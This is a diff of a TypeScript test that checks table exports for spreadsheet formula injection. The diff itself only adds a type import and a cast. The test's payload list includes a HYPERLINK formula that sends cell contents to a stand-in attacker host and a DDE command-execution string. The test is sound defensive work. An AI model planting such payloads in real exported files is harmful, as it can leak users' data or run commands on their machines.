@@ -2,7 +2,7 @@
 // session cookie flags next-auth sets (docs/security.md).
 import ExcelJS from "exceljs";
 import { parse } from "csv-parse/sync";
-import { neutralizeFormula, toCsv, toXlsx } from "@/lib/export/table-export";
+import { neutralizeFormula, toCsv, toXlsx, type ExportSheet } from "@/lib/export/table-export";
 
 const PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "=1+1"];
 
@@ -18,7 +18,7 @@ describe("formula injection in exports", () => {
 
   it("XLSX: the same texts are plain string cells, never formulas", async () => {
     const workbook = new ExcelJS.Workbook();
-    await workbook.xlsx.load((await toXlsx([sheet])) as unknown as ArrayBuffer);
+    await workbook.xlsx.load((await toXlsx([sheet as ExportSheet<unknown>])) as unknown as ArrayBuffer);
     const cells = workbook.worksheets[0].getColumn(1).values.slice(2);
     expect(cells).toEqual(PAYLOADS.map((payload) => payload.replace(/\r/g, "\n")));
     workbook.worksheets[0].eachRow((row) => row.eachCell((cell) => expect(cell.type).toBe(ExcelJS.ValueType.String)));
